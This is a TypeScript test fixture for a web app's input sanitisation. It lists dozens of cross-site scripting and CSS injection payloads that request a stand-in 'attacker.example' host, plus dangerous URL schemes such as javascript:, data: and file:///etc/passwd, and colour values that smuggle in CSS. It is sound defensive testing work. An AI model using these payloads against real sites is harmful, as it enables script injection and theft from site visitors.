// Texts that an owner could enter to run a script on a page. An attack that succeeds requests an address of this
// origin, so one listener detects all attacks.
export const attackerOrigin = 'https://attacker.example'

/** Returns the attack's text. `nth` identifies the attack in a failure message. */
type Attack = (nth: number) => string

const toUrl = (nth: number) => `${attackerOrigin}/${nth}`
const toScript = (nth: number) => `new Image().src='${toUrl(nth)}'`

const attackBuilders: Attack[] = [
  (nth) => `<script>${toScript(nth)}</script>`,
  (nth) => `</script><script>${toScript(nth)}</script>`,
  (nth) => `</style><script>${toScript(nth)}</script>`,
  (nth) => `</title><script>${toScript(nth)}</script>`,
  (nth) => `</textarea><script>${toScript(nth)}</script>`,
  (nth) => `</noscript><script>${toScript(nth)}</script>`,
  (nth) => `<script src=${toUrl(nth)}></script>`,
  (nth) => `<script type=module src=${toUrl(nth)}></script>`,
  (nth) => `<script src=//attacker.example/${nth}></script>`,
  (nth) => `"><script>${toScript(nth)}</script>`,
  (nth) => `'><script>${toScript(nth)}</script>`,
  (nth) => `--><script>${toScript(nth)}</script>`,
  (nth) => `]]><script>${toScript(nth)}</script>`,
  (nth) => `<ScRiPt>${toScript(nth)}</sCrIpT>`,
  (nth) => `<scr<script>ipt>${toScript(nth)}</scr</script>ipt>`,
  (nth) => `<img src=x onerror="${toScript(nth)}">`,
  (nth) => `"><img src=x onerror=${toScript(nth)}>`,
  (nth) => `<img src=${toUrl(nth)}>`,
  (nth) => `"><img src=${toUrl(nth)}>`,
  (nth) => `' onerror='${toScript(nth)}`,
  (nth) => `" onerror="${toScript(nth)}`,
  (nth) => `" onmouseover="${toScript(nth)}" style="position:fixed;inset:0" x="`,
  (nth) => `" autofocus onfocus="${toScript(nth)}" x="`,
  (nth) => `<svg onload=${toScript(nth)}>`,
  (nth) => `<svg><script href=${toUrl(nth)} /></svg>`,
  (nth) => `<svg><animate onbegin=${toScript(nth)} attributeName=x dur=1s>`,
  (nth) => `<svg><style><img src=x onerror=${toScript(nth)}></style></svg>`,
  (nth) => `<math><mi//xlink:href="javascript:${toScript(nth)}">`,
  (nth) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${toScript(nth)}&gt;">`,
  (nth) => `<iframe src="${toUrl(nth)}"></iframe>`,
  (nth) => `<iframe srcdoc="<script>${toScript(nth)}</script>"></iframe>`,
  (nth) => `<iframe src="javascript:${toScript(nth)}"></iframe>`,
  (nth) => `<object data="${toUrl(nth)}"></object>`,
  (nth) => `<embed src="${toUrl(nth)}">`,
  (nth) => `<body onload=${toScript(nth)}>`,
  (nth) => `<details open ontoggle=${toScript(nth)}>`,
  (nth) => `<input autofocus onfocus=${toScript(nth)}>`,
  (nth) => `<video><source onerror=${toScript(nth)}></video>`,
  (nth) => `<audio src=${toUrl(nth)} autoplay>`,
  (nth) => `<video poster=${toUrl(nth)}></video>`,
  (nth) => `<marquee onstart=${toScript(nth)}>`,
  (nth) => `<link rel=stylesheet href=${toUrl(nth)}>`,
  (nth) => `<link rel=prefetch href=${toUrl(nth)}>`,
  (nth) => `<link rel=icon href=${toUrl(nth)}>`,
  (nth) => `<style>@import '${toUrl(nth)}';</style>`,
  (nth) => `<style>*{background:url(${toUrl(nth)})}</style>`,
  (nth) => `}*{background:url(${toUrl(nth)})}`,
  (nth) => `red;background:url(${toUrl(nth)})`,
  (nth) => `';}*{background:url(${toUrl(nth)})}/*`,
  (nth) => `<meta http-equiv=refresh content="0;url=${toUrl(nth)}">`,
  (nth) => `<meta http-equiv=Content-Security-Policy content="default-src *"><script>${toScript(nth)}</script>`,
  (nth) => `<base href="${toUrl(nth)}/">`,
  (nth) => `<form action=${toUrl(nth)}><button autofocus>Buy</button></form><script>document.forms[0].submit()</script>`,
  (nth) => `<portal src=${toUrl(nth)}></portal>`,
  (nth) => `<template shadowrootmode=open><script>${toScript(nth)}</script></template>`,
  (nth) => `javascript:${toScript(nth)}//`,
  (nth) => `data:text/html,<script>${toScript(nth)}</script>`,
  (nth) => `{{constructor.constructor("${toScript(nth)}")()}}`,
  (nth) => `\${${toScript(nth)}}`,
  (nth) => `\u2028<script>${toScript(nth)}</script>\u2029`,
  (nth) => `&lt;script&gt;${toScript(nth)}&lt;/script&gt;`,
  (nth) => `&#60;script&#62;${toScript(nth)}&#60;/script&#62;`,
  (nth) => `\uff1cscript\uff1e${toScript(nth)}\uff1c/script\uff1e`,
  (nth) => `%3Cscript%3E${toScript(nth)}%3C/script%3E`,
  (nth) => `\\u003cscript\\u003e${toScript(nth)}\\u003c/script\\u003e`,
  (nth) => `\u202e<script>${toScript(nth)}</script>`,
  (nth) => `<!--><script>${toScript(nth)}</script>-->`,
  (nth) => `<x/onclick=${toScript(nth)} autofocus tabindex=1 onfocus=${toScript(nth)}>`,
]

export const textAttacks: string[] = attackBuilders.map((attack, nth) => attack(nth))

/** Addresses that every field must reject, because they are not pages or pictures loaded over https. */
export const addressAttacks: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://shelf.example/1',
  'file:///etc/passwd',
  'ftp://attacker.example/',
  'http://attacker.example/',
  '//attacker.example/',
  '/\\attacker.example',
  'https://mia:secret@attacker.example/',
  'https://attacker.example\n/',
  'https:',
  'view-source:https://shelf.example',
  'about:blank',
]

/** Addresses that fields accept. Each must remain a single address wherever it appears on a page. */
export const acceptedAddresses: string[] = [
  `https://pictures.example/"onerror="${toScript(100)}"x="`,
  `https://pictures.example/'onerror='${toScript(101)}'x='`,
  `https://pictures.example/><script>${toScript(102)}</script>`,
  `https://pictures.example/x.css');@import'${toUrl(103)}`,
  `https://pictures.example/css2?family=x';}*{background:url(${toUrl(104)})}`,
  `https://pictures.example/css2?family=</style><script>${toScript(105)}</script>`,
]

export const colorAttacks: string[] = [
  'red',
  '#fff',
  '#12345g',
  '#123456;}*{background:url(//attacker.example)}',
  'url(//attacker.example)',
  'var(--x)',
  '</style>',
]
